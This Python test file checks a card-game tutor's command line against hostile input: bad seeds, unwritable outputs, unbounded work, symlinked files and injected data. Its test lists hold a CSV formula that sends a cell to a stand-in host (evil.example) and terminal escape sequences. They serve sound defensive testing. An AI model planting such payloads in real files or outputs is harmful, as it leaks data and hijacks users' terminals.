"""Issue 23's hostile input, each reproduction turned into a test: seeds and ids out of range or
not in ASCII digits, outputs that cannot be written (exit 1, checked before the work),
conflicting options (exit 2), CSV cells that would start a formula, control characters from
data on the terminal, unbounded deals, and the cosmetic slips of the help and messages.  Every
refusal is one line, never a traceback."""

from __future__ import annotations

import csv
import io
import json
import re

import pytest
from fuzzing import fuzz_settings
from hypothesis import given
from hypothesis import strategies as st
from support import ESC, run_laugh

from tutor.app.cli import main
from tutor.engine.limits import MAX_SEED

BIG = "9" * 5001
BAD_SEEDS = [
    "9" * 40,
    "-9223372036854775809",
    "-1",
    "١٢",
    "²",
    BIG,
    "1_000",
    "0x10",
    "",
    " 5",
    "5 ",
    "\t5",
]  # issue 45: a seed is digits alone


def _one_line(err: str) -> str:
    assert "Traceback" not in err and err.count("\n") == 1, err
    assert len(err) < 600, err[:600]  # one line, even when it lists every kind of answer
    return err


def run(monkeypatch, capsys, argv, stdin=""):
    monkeypatch.setattr("sys.stdin", io.StringIO(stdin))
    rc = main(argv)
    out, err = capsys.readouterr()
    return rc, out, err


# -- item 4 and 5: seeds --------------------------------------------------------------------

SEED_COMMANDS = [
    ["lesson", "1"],
    ["tutor"],
    ["play"],
    ["match"],
    ["drill", "settle"],
    ["puzzle"],
    ["puzzles", "export", "--kind", "count"],
    ["simulate"],
    ["analyse", "x.json"],
    ["worksheet", "1", "--out", "x.html"],
]


@pytest.mark.parametrize("command", SEED_COMMANDS, ids=lambda c: c[0])
@pytest.mark.parametrize("seed", BAD_SEEDS, ids=lambda s: s[:12] or "empty")
def test_every_seed_out_of_range_or_not_ascii_digits_is_one_line_exit_2(
    monkeypatch, capsys, tmp_path, command, seed
):
    """``--seed 99...9`` ended in OverflowError (SQLite INTEGER) in lesson and tutor; Arabic-Indic
    digits were taken as a seed; 5,001 digits were echoed whole."""
    monkeypatch.setenv("LAUGH_HOME", str(tmp_path))
    rc, out, err = run(monkeypatch, capsys, [*command, f"--seed={seed}"])
    assert rc == 2 and out == ""
    assert "argument --seed: " in _one_line(err) and "a seed" in err


@fuzz_settings(cost=0.001, short=200)
@given(st.text(max_size=30) | st.integers(-(2**70), 2**70).map(str))
def test_a_seed_is_ascii_digits_within_range_or_refused(text):
    import argparse

    from tutor.app.commands._common import seed_type

    try:
        value = seed_type(text)
    except argparse.ArgumentTypeError as exc:
        assert "\n" not in str(exc) and len(str(exc)) < 200
        return
    t = text.strip()
    assert t == text  # issue 45: " 5" is refused
    assert t.lstrip("-").isascii() and t.lstrip("-").isdigit() and 0 <= value <= MAX_SEED
    assert value == int(t)


@pytest.mark.parametrize(
    "pid",
    [
        "capture-now.parlett.5.²",
        "capture-now.parlett.5.١٢",
        f"capture-now.parlett.5.{BIG}",
        "capture-now.parlett.².5",
        "capture-now.parlett.5.-3",
    ],
)
def test_a_puzzle_id_with_a_bad_seed_is_one_line_exit_2(monkeypatch, capsys, pid):
    """``str.isdigit()`` then ``int()`` gave ValueError tracebacks for these."""
    rc, out, err = run(monkeypatch, capsys, ["puzzle", "--id", pid, "--json"])
    assert rc == 2 and "malformed puzzle id" in _one_line(err)


@fuzz_settings(cost=0.001, short=200)
@given(
    st.text(max_size=40)
    | st.builds(lambda a, b: f"count.parlett.{a}.{b}", st.text(max_size=6), st.text(max_size=8))
)
def test_a_puzzle_id_is_read_or_refused_with_a_usage_error(text):
    from tutor.engine.errors import UsageError
    from tutor.puzzles.generators import parse_id

    try:
        kind, ruleset, players, seed = parse_id(text)
    except UsageError as exc:
        assert "\n" not in str(exc)
        return
    assert 0 <= seed < 2**63 and 1 <= players <= 52


@pytest.mark.parametrize(
    "argv", [["lesson", "²"], ["lesson", BIG], ["worksheet", "١", "--out", "x.html"]]
)
def test_a_lesson_named_by_odd_digits_is_one_line(monkeypatch, capsys, tmp_path, argv):
    monkeypatch.setenv("LAUGH_HOME", str(tmp_path))
    rc, out, err = run(monkeypatch, capsys, argv)
    assert rc == 2 and "unknown lesson" in _one_line(err)


# -- item 8: deals without end ----------------------------------------------------------------


@pytest.mark.parametrize(
    "argv,needle",
    [
        (["match", "--deals", "9" * 40], "a number of deals must be at most 1,000"),
        (["play", "--deals", "9" * 40], "a number of deals must be at most 1,000"),
        (["simulate", "--deals", "9" * 40], "a number of deals must be at most 1,000,000"),
        (["simulate", "--deals", "20000", "--records", "r.jsonl"], "at most 10,000 deals with it"),
        (["puzzles", "export", "--kind", "count", "--count", "9" * 40], "at most 10,000"),
        (["simulate", "--workers", "100000"], "at most 64"),
    ],
)
def test_unbounded_work_is_refused_in_one_line(monkeypatch, capsys, tmp_path, argv, needle):
    """``match --deals 99...9`` built a list of every game and ended in MemoryError; ``simulate
    --deals 99...9`` ran for ever."""
    monkeypatch.chdir(tmp_path)
    monkeypatch.setenv("LAUGH_HOME", str(tmp_path))
    rc, out, err = run(monkeypatch, capsys, argv)
    assert rc == 2 and needle in _one_line(err)
    assert not (tmp_path / "r.jsonl").exists()


# -- item 12: outputs that cannot be written ---------------------------------------------------


def _export(tmp_path) -> str:
    path = tmp_path / "mine.json"
    path.write_text(
        json.dumps(
            {
                "format": "laugh-and-lie-down/progress@1",
                "exported_at": 0,
                "learner": "Ann",
                "answers": [],
                "lessons": [],
                "meta": {},
                "ratings": {},
            }
        )
    )
    return str(path)


WRITERS = [
    ["progress", "export", "{out}"],
    ["worksheet", "8", "--seed", "1", "--out", "{out}.html"],
    ["class", "report", "{export}", "--html", "{out}.html"],
    ["class", "report", "{export}", "--csv", "{out}.csv"],
    ["simulate", "--deals", "3", "--records", "{out}.jsonl"],
    ["match", "--sheet", "{out}.html"],
    ["play", "--export", "{out}.jsonl"],
    ["puzzles", "export", "--kind", "count", "--count", "2", "--out", "{out}.jsonl"],
    ["sources", "new", "tuesday-club", "--out", "{out}.yaml"],
]


@pytest.mark.parametrize("where", ["missing", "folder"])
@pytest.mark.parametrize("argv", WRITERS, ids=lambda a: " ".join(a[:2]))
def test_every_output_that_cannot_be_written_exits_1_before_the_work(
    monkeypatch, capsys, tmp_path, argv, where
):
    """README: an output that cannot be written exits 1; these exited 2 (or, for play --export,
    only after the deal had been played)."""
    monkeypatch.setenv("LAUGH_HOME", str(tmp_path / "home"))
    if where == "missing":
        out = str(tmp_path / "nonexistent" / "dir" / "x")
        reason = "does not exist; create it or choose another file"
    else:
        (tmp_path / "x.html").mkdir()
        (tmp_path / "x.jsonl").mkdir()
        (tmp_path / "x.csv").mkdir()
        (tmp_path / "x.yaml").mkdir()
        (tmp_path / "x").mkdir()
        out = str(tmp_path / "x")
        reason = "it is a folder; give a file name"
    args = [a.format(out=out, export=_export(tmp_path)) for a in argv]
    rc, said, err = run(monkeypatch, capsys, args, stdin="")
    assert rc == 1, err
    assert f"cannot write {out}" in _one_line(err) and reason in err
    assert "Your hand" not in said and "Settlement" not in said  # nothing was played


def test_a_disk_that_fills_while_writing_is_exit_1(monkeypatch, capsys, tmp_path):
    """A failed write (here the disk full when the written file is synced) is said as one line
    with status 1, and leaves nothing behind."""
    import errno

    def full(*a, **k):
        raise OSError(errno.ENOSPC, "No space left on device")

    monkeypatch.setenv("LAUGH_HOME", str(tmp_path))
    monkeypatch.setattr("tutor.engine.atomic.os.fsync", full)
    for argv in (["worksheet", "8", "--seed", "1"], ["class", "pack", "--seed", "1"]):
        rc, out, err = run(monkeypatch, capsys, argv + ["--out", str(tmp_path / "w.html")])
        assert rc == 1 and "No space left on device; free some space" in _one_line(err)
        assert not list(tmp_path.glob("*w.html*"))


# -- item 16: options that do not go together ---------------------------------------------------


@pytest.mark.parametrize(
    "argv,needle",
    [
        (
            ["simulate", "--skill", "parlett", "--records", "sk.jsonl"],
            "--skill does not take --records",
        ),
        (
            ["simulate", "--skill", "parlett", "--ruleset", "porges"],
            "--skill does not take --ruleset",
        ),
        (["simulate", "--skill", "parlett", "--bots", "random"], "--skill does not take --bots"),
        (["simulate", "--samples", "5"], "--samples only goes with --skill"),
        (["simulate", "--opponents", "random"], "--opponents only goes with --skill"),
        (["puzzles", "export", "--set", "classroom", "--ruleset", "porges"], "leave out --ruleset"),
        (["puzzles", "export", "--set", "classroom", "--count", "3"], "leave out --count"),
        (["sources", "parlett", "--out", "o.yaml"], "--out goes with 'new' only"),
    ],
)
def test_conflicting_options_are_refused_not_ignored(monkeypatch, capsys, tmp_path, argv, needle):
    monkeypatch.chdir(tmp_path)
    rc, out, err = run(monkeypatch, capsys, argv)
    assert rc == 2 and needle in _one_line(err) and out == ""
    assert list(tmp_path.iterdir()) == []  # nothing written


# -- item 9: CSV formula injection ---------------------------------------------------------------

FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "@SUM(A1:A9)",
    "+1+1",
    "-1+1",
    "\tx",
    "\rx",
    "=1",
]


def _report_export(path, learner, kind, theme):
    path.write_text(
        json.dumps(
            {
                "format": "laugh-and-lie-down/progress@1",
                "exported_at": 0,
                "learner": learner,
                "answers": [
                    {
                        "uid": "u1",
                        "at": 1_700_000_000,
                        "puzzle_id": "count.parlett.5.1",
                        "kind": kind,
                        "themes": [theme],
                        "correct": True,
                        "seconds": None,
                        "hints": 0,
                        "lesson": None,
                        "ruleset": "parlett",
                        "retry": False,
                        "difficulty": 2,
                        "revealed": False,
                    }
                ],
                "lessons": [],
                "meta": {},
                "ratings": {},
            }
        ),
        encoding="utf-8",
    )


def _csv_cells(path) -> list[str]:
    """Every cell of a CSV file, its header too (the class report names themes there)."""
    rows = list(csv.reader(io.StringIO(path.read_bytes().decode("utf-8"), newline="")))
    return [c for row in rows for c in row]


def _no_formula(cells) -> None:
    for c in cells:
        assert not c.startswith(("=", "+", "@", "\t", "\r")) or re.fullmatch(r"\+?\d+", c), c
        assert not c.startswith("-") or re.fullmatch(r"-\d+(\.\d+)?", c), c


@pytest.mark.parametrize("bad", FORMULAS)
def test_no_csv_cell_of_the_class_report_can_start_a_formula(monkeypatch, capsys, tmp_path, bad):
    """The learner's name and a theme are free text an import accepts; a kind is not (an
    unknown kind refuses the file: the next test)."""
    export = tmp_path / "e.json"
    _report_export(export, bad, "count", bad)
    out = tmp_path / "r.csv"
    rc, said, err = run(monkeypatch, capsys, ["class", "report", str(export), "--csv", str(out)])
    assert rc == 0, err
    from tutor.puzzles.themes import theme_id

    rows = list(csv.DictReader(io.StringIO(out.read_bytes().decode("utf-8"), newline="")))
    from tutor.engine.safetext import printable

    kept = printable(bad)  # a carriage return is shown as \x0d: no formula
    assert [r["learner"] for r in rows] == ["'" * (kept == bad) + kept, "Class"]
    spelt = theme_id(bad)  # the theme in its one spelling, named in the grid
    assert any(f"{spelt} [{spelt}]: accuracy" in h for h in rows[0])
    _no_formula(_csv_cells(out))


@pytest.mark.parametrize("bad", FORMULAS)
def test_a_formula_for_a_kind_refuses_its_file_and_reaches_no_csv(
    monkeypatch, capsys, tmp_path, bad
):
    """An export whose answer kind is a formula is left out, in one line that shows the kind
    as an escaped literal; the report of the other files has no cell that starts a formula."""
    good, hostile = tmp_path / "good.json", tmp_path / "hostile.json"
    _report_export(good, "Anne", "count", "counting")
    _report_export(hostile, "Bea", bad, "counting")
    out = tmp_path / "r.csv"
    rc, said, err = run(
        monkeypatch, capsys, ["class", "report", str(good), str(hostile), "--csv", str(out)]
    )
    assert rc == 1 and "1 file left out" in said
    assert f"answers[0].kind: {bad!r} is not a kind of answer" in _one_line(err)
    assert "\t" not in err and "\r" not in err
    cells = _csv_cells(out)
    assert "Anne" in cells and "Bea" not in cells
    assert not any(bad in c for c in cells)
    _no_formula(cells)


@fuzz_settings(cost=0.001, short=300)
@given(
    st.tuples(
        st.sampled_from(["", " ", "\u00a0", "\u3000", "\u2007", "\n", "\u200b"]),
        st.text(max_size=20)
        | st.sampled_from(FORMULAS)
        | st.integers().map(str)
        | st.sampled_from(["\uff1d1+1", "+1", "-1.5"]),
    ).map("".join)
)
def test_csv_cell_never_leaves_a_formula_start(text):
    """Issue 28: not even behind spaces, no-break spaces or other Unicode spaces (a spreadsheet
    skips them), nor in full-width form; a control or format character is shown escaped."""
    from tutor.engine.safetext import csv_cell, printable

    cell = csv_cell(text)
    if not re.fullmatch(r"[+-]?[0-9]+(\.[0-9]+)?", cell):
        assert not cell.startswith(("\t", "\r"))
        assert not cell.lstrip().startswith(
            ("=", "+", "-", "@", "\uff1d", "\uff0b", "\uff0d", "\uff20")
        )
    assert cell in (printable(text), "'" + printable(text))


# -- item 10: control characters from data on the terminal ---------------------------------------

HOSTILE = "A \x1b[2J\x1b]0;PWNED\x07 \x9b31m name"


def test_a_learner_name_or_theme_with_escapes_never_reaches_the_terminal(tmp_path):
    export = tmp_path / "e.json"
    _report_export(export, HOSTILE, "spot-oversight", "th\x1b]0;X\x07eme")
    home = tmp_path / "home"
    proc = run_laugh(["class", "report", str(export)], "", home)
    assert proc.returncode == 0, proc.stderr
    assert ESC not in proc.stdout and "\x07" not in proc.stdout and "\x9b" not in proc.stdout
    # (the theme in its one spelling: lower case)
    assert "A \\x1b[2J\\x1b]0;PWNED" in proc.stdout and "th\\x1b]0;x" in proc.stdout
    assert run_laugh(["progress", "import", str(export)], "", home).returncode == 0
    for argv in (["stats"], ["drill", "weak", "--list"]):
        proc = run_laugh(argv, "", home, extra_env={"NO_COLOR": "1"})
        assert proc.returncode == 0, proc.stderr
        assert ESC not in proc.stdout and "\x07" not in proc.stdout, argv
        assert "th\\x1b]0;x" in proc.stdout, argv


def test_a_learner_name_with_a_newline_keeps_the_class_reports_rows(tmp_path):
    """Issue 45, finding 11: a newline in a learner's name broke the terminal report's rows."""
    export = tmp_path / "e.json"
    _report_export(export, "Ann\nBob Roberts", "spot-oversight", "counting")
    proc = run_laugh(
        ["class", "report", str(export)], "", tmp_path / "home", extra_env={"NO_COLOR": "1"}
    )
    assert proc.returncode == 0, proc.stderr
    assert "Ann\\nBob Roberts" in proc.stdout
    assert not any(line.strip().startswith("Bob Roberts") for line in proc.stdout.splitlines())


def test_a_kind_with_escapes_is_refused_in_one_inert_line(tmp_path):
    """An unknown kind refuses the file (issue 23, item 13); the refusal shows the kind as an
    escaped literal on stderr, and nothing of the file is imported."""
    export = tmp_path / "e.json"
    kind = "spot\x1b[2J\x9b31moversight"
    _report_export(export, "Anne", kind, "counting")
    home = tmp_path / "home"
    for argv in (["class", "report", str(export)], ["progress", "import", str(export)]):
        proc = run_laugh(argv, "", home)
        assert proc.returncode == 1 and "Traceback" not in proc.stderr, proc.stderr
        assert "kind: 'spot\\x1b[2J\\x9b31moversight' is not a kind of answer" in proc.stderr
        for stream in (proc.stdout, proc.stderr):
            assert ESC not in stream and "\x9b" not in stream, argv
    proc = run_laugh(["stats"], "", home, extra_env={"NO_COLOR": "1"})
    assert proc.returncode == 0 and "oversight" not in proc.stdout, proc.stdout


def test_a_source_summary_with_escapes_never_reaches_the_terminal(tmp_path):
    folder = tmp_path / "src"
    folder.mkdir()
    assert (
        run_laugh(
            ["sources", "new", "hx", "--out", str(folder / "hx.yaml")], "", tmp_path
        ).returncode
        == 0
    )
    text = (folder / "hx.yaml").read_text(encoding="utf-8")
    text = re.sub(
        r"^summary: >-\n  .*\n",
        lambda m: 'summary: "A \\e[2J\\e]0;PWNED\\a house rule"\n',
        text,
        flags=re.M,
    )
    (folder / "hx.yaml").write_text(text, encoding="utf-8")
    for colour in ({"NO_COLOR": "1"}, {}):
        proc = run_laugh(
            ["--sources", str(folder), "sources", "hx"], "", tmp_path, extra_env=colour
        )
        assert proc.returncode == 0, proc.stderr
        assert ESC not in proc.stdout and "\x07" not in proc.stdout
        assert "A \\x1b[2J\\x1b]0;PWNED" in proc.stdout and "house rule" in proc.stdout


@fuzz_settings(cost=0.002, short=100)
@given(st.text(alphabet=st.characters(max_codepoint=0x1FF), max_size=40))
def test_the_console_prints_no_control_character_from_any_text(text):
    from rich.table import Table
    from rich.text import Text

    from tutor.app.std_streams import make_console

    buf = io.StringIO()
    out = make_console(file=buf, width=30, plain=True)
    t = Table()
    t.add_column("name")
    t.add_row(text)
    t.add_row(Text(text, style="red"))
    out.print(t)
    out.print(text, markup=False)
    out.print(Text(text))
    shown = buf.getvalue()
    assert not re.search("[\x00-\x08\x0b-\x1f\x7f-\x9f]", shown), repr(shown)


def test_an_error_line_shows_no_control_character(monkeypatch, capsys):
    rc, out, err = run(monkeypatch, capsys, ["rules", "x\x1b[2Jy"])
    assert rc == 2 and ESC not in _one_line(err) and "\\x1b[2J" in err


# -- cosmetic ------------------------------------------------------------------------------------


def test_help_and_messages_read_as_meant(monkeypatch, capsys, tmp_path):
    assert main(["match", "--help"]) == 0
    out = capsys.readouterr().out
    assert "default None" not in out
    assert "ruleset id (see laugh rules); default parlett" in " ".join(out.split())
    main(["analyse", "--help"])
    out = capsys.readouterr().out
    assert "%%" not in out and "95% interval" in " ".join(out.split())
    rc, out, err = run(monkeypatch, capsys, ["drill", "settle", "--players", "9"])
    assert rc == 2 and "no ruleset covers 9 players; choose from" in _one_line(err)
    assert "no ruleset does not" not in err


def test_a_name_that_starts_with_a_dash_is_taken_with_an_equals_sign(monkeypatch, capsys, tmp_path):
    monkeypatch.setenv("LAUGH_HOME", str(tmp_path))
    out = tmp_path / "mine.json"
    rc, said, err = run(monkeypatch, capsys, ["progress", "export", str(out), "--name", "-1+1"])
    assert rc == 2 and "--name=-VALUE" in _one_line(err)
    rc, said, err = run(monkeypatch, capsys, ["progress", "export", str(out), "--name=-1+1"])
    assert rc == 0, err
    assert json.loads(out.read_text())["learner"] == "-1+1"


def test_a_long_argument_is_never_echoed_whole(monkeypatch, capsys):
    for argv in (["rules", BIG], [BIG], ["puzzle", "--seed", BIG], ["lesson", "x" * 3000]):
        rc, out, err = run(monkeypatch, capsys, argv)
        assert rc == 2 and len(_one_line(err)) < 400, argv


def test_a_sources_file_that_is_a_link_is_refused_without_quoting_its_target(tmp_path):
    """Issue 45, finding 11: a teacher's sources file linked to a system file had that file's
    first line quoted in the error."""
    secret = tmp_path / "shadow"
    secret.write_text("root-secret-line: hunter2\n")
    home = tmp_path / "home"
    (home / "sources").mkdir(parents=True)
    (home / "sources" / "evil.yaml").symlink_to(secret)
    for argv in (["sources"], ["sources", "check"]):
        proc = run_laugh(argv, "", home, extra_env={"NO_COLOR": "1"})
        both = proc.stdout + proc.stderr
        assert "root-secret-line" not in both and "hunter2" not in both, argv
        assert "evil.yaml" in both and "symbolic link" in both, argv


def test_a_folder_under_one_not_writable_is_said_not_writable(tmp_path, monkeypatch):
    """Issue 45, finding 11: a read-only home said the folder "does not exist; create it"."""
    import os

    from tutor.engine import outputs

    ro = tmp_path / "ro"
    ro.mkdir()
    real = os.access
    monkeypatch.setattr(
        outputs.os, "access", lambda p, mode: False if str(p) == str(ro) else real(p, mode)
    )
    with pytest.raises(outputs.CannotWrite) as exc:
        outputs.check_output(ro / "home" / "x.html")
    assert "not writable" in str(exc.value) and "create it" not in str(exc.value)
